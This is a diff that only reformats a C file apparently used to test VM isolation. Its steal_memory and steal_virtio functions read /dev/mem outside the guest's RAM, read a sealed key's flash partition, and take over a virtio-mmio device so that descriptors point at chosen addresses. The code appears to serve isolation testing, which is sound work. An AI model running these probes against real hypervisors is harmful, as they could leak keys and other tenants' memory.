@@ -30,14 +30,15 @@
 
 #define PAGE 4096UL
 #define CHUNK (2UL << 20)
-#define GUEST_RAM_BASE 0x40000000UL   /* abi/persona_layout.h */
-#define MACHINE_RAM_END 0x80000000UL  /* QEMU virt with 1 GiB, as the platform has it */
-#define SECURE_FLASH 0x04000000UL     /* pflash unit 1: the sealed key's partition */
+#define GUEST_RAM_BASE 0x40000000UL  /* abi/persona_layout.h */
+#define MACHINE_RAM_END 0x80000000UL /* QEMU virt with 1 GiB, as the platform has it */
+#define SECURE_FLASH 0x04000000UL    /* pflash unit 1: the sealed key's partition */
 #define CHANNEL_DEVICE 0x0a000000UL
 #define CHANNEL_DEVICE_NAME "a000000.virtio_mmio"
 #define MMIO_DRIVER "/sys/bus/platform/drivers/virtio-mmio/"
 
-/* The end of my RAM, as the device tree the VMM gave me says (two cells of address, two of size). */
+/* The end of my RAM, as the device tree the VMM gave me says (two cells of address, two of size).
+ */
 static uint64_t guest_ram_end(void)
 {
     uint8_t reg[16];
@@ -84,12 +85,14 @@ static int steal_memory(void)
     }
     uint64_t above = guest_ram_end(), pages = 0, nonzero = 0, denied = 0;
     printf("steal: memory: reading /dev/mem at %#" PRIx64 "-%#lx (machine RAM above mine) and the "
-           "sealed key's flash at %#lx\n", above, MACHINE_RAM_END, SECURE_FLASH);
+           "sealed key's flash at %#lx\n",
+           above, MACHINE_RAM_END, SECURE_FLASH);
     scan(fd, SECURE_FLASH, SECURE_FLASH + (256UL << 10), &pages, &nonzero, &denied);
     scan(fd, above, MACHINE_RAM_END, &pages, &nonzero, &denied);
     close(fd);
     printf("steal: memory: %" PRIu64 " pages read, %" PRIu64 " with data, %" PRIu64
-           " refused by Linux\n", pages, nonzero, denied);
+           " refused by Linux\n",
+           pages, nonzero, denied);
     if (nonzero) {
         printf("steal: memory: LEAKED data from %" PRIu64 " pages outside my RAM\n", nonzero);
         return 1;
@@ -180,7 +183,8 @@ static void negotiate(void)
     reg_write(R_STATUS, S_ACKNOWLEDGE | S_DRIVER | S_FEATURES_OK);
 }
 
-/* Queue PORT0_TRANSMIT with its rings at desc, avail and used; returns whether the device took it. */
+/* Queue PORT0_TRANSMIT with its rings at desc, avail and used; returns whether the device took it.
+ */
 static int set_queue(uint64_t desc, uint64_t avail, uint64_t used)
 {
     reg_write(R_QUEUE_SEL, PORT0_TRANSMIT);
@@ -200,8 +204,8 @@ static int offer_buffer(uint8_t *page, uint64_t page_pa, uint64_t addr, uint32_t
     volatile uint16_t *used = (volatile uint16_t *)(page + 2048);
     memset(page, 0, PAGE);
     table[0] = (struct desc){ addr, len, 0, 0 };
-    avail[2] = 0;   /* ring[0]: descriptor 0 */
-    avail[1] = 1;   /* idx */
+    avail[2] = 0; /* ring[0]: descriptor 0 */
+    avail[1] = 1; /* idx */
     negotiate();
     if (!set_queue(page_pa, page_pa + 1024, page_pa + 2048))
         return -1;
@@ -223,13 +227,15 @@ static int refused(const char *what, int consumed)
 static int steal_virtio(void)
 {
     if (sysfs_write(MMIO_DRIVER "unbind", CHANNEL_DEVICE_NAME) != 0) {
-        printf("steal: virtio: cannot take the channel device from its driver: %s\n", strerror(errno));
+        printf("steal: virtio: cannot take the channel device from its driver: %s\n",
+               strerror(errno));
         return 2;
     }
     int fd = open("/dev/mem", O_RDWR | O_SYNC);
     uint8_t *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-    void *map = fd < 0 ? MAP_FAILED : mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
-                                           (off_t)CHANNEL_DEVICE);
+    void *map =
+        fd < 0 ? MAP_FAILED
+               : mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)CHANNEL_DEVICE);
     if (map == MAP_FAILED || page == MAP_FAILED || mlock(page, PAGE) != 0) {
         printf("steal: virtio: cannot map the device or a page: %s\n", strerror(errno));
         return 2;
